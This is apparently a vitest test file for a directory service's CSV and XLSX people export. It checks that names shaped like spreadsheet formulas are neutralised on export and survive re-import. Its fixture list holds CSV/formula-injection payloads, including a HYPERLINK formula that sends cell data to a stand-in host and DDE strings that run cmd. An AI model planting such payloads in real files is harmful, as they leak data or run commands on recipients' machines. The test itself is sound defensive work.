import ExcelJS from 'exceljs';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createHarness, type Harness, type TestUser } from '../../test/harness.js';
import { readSheet, toCsv } from './index.js';

/**
 * Formula injection: a name stored as "=HYPERLINK(…)" must reach the
 * secretariat's spreadsheet as text, in CSV and in XLSX, and come back intact
 * when the file is imported again.
 */
const hostile = [
  '=HYPERLINK("http://evil.example/?"&A1,"Open")',
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
];

let h: Harness;
let staff: TestUser;
beforeAll(async () => {
  h = await createHarness();
  staff = await h.user({ roles: ['secretariat'] });
  for (const [i, name] of hostile.entries()) {
    const res = await h.call(staff, {
      method: 'POST',
      url: '/api/v1/directory/people',
      payload: { name, email: `formula${i}@export.example`, countryCode: 'DE', phone: '+86 571 8888 0000' },
    });
    expect(res.statusCode, res.body).toBe(201);
  }
});
afterAll(() => h.close());

describe('exports', () => {
  it('CSV cells that a spreadsheet would run as formulas start with an apostrophe; numbers and plain text stay as they are', async () => {
    const res = await h.call(staff, { method: 'GET', url: '/api/v1/directory/export/people?format=csv' });
    expect(res.statusCode).toBe(200);
    const [header, ...records] = parse(res.rawPayload.toString('utf8'), { bom: true }) as string[][];
    const name = header.indexOf('name');
    const names = records.map((r) => r[name]);
    // Stored names are trimmed, so the tab-led one starts with "=".
    for (const n of hostile.map((x) => x.trim())) expect(names).toContain(`'${n}`);
    expect(names.every((n) => !/^[=+\-@\t\r]/.test(n))).toBe(true);
    expect(toCsv([{ header: 'n', value: (r: number) => r }], [-5]).toString('utf8')).toContain('\r\n-5');
    expect(toCsv([{ header: 'n', value: (r: string) => r }], ['Wuzhen']).toString('utf8')).toContain('\r\nWuzhen');
  });

  it('XLSX cells hold the text as a string, never as a formula', async () => {
    const res = await h.call(staff, { method: 'GET', url: '/api/v1/directory/export/people?format=xlsx' });
    expect(res.statusCode).toBe(200);
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(res.rawPayload as unknown as ArrayBuffer);
    const ws = wb.worksheets[0];
    let found = 0;
    ws.eachRow((row, n) => {
      if (n === 1) return;
      row.eachCell((cell) => {
        expect(cell.type).not.toBe(ExcelJS.ValueType.Formula);
        if (hostile.some((x) => x.trim() === cell.value)) found++;
      });
    });
    expect(found).toBe(hostile.length);
  });

  it('an exported CSV imports back with the names as they were', async () => {
    const res = await h.call(staff, { method: 'GET', url: '/api/v1/directory/export/people?format=csv' });
    const rows = await readSheet(res.rawPayload, 'people.csv');
    expect(rows.map((r) => r.values.name)).toEqual(expect.arrayContaining(hostile.map((x) => x.trim())));
    expect(rows.every((r) => r.values.phone === '' || r.values.phone === '+86 571 8888 0000')).toBe(true);
  });
});
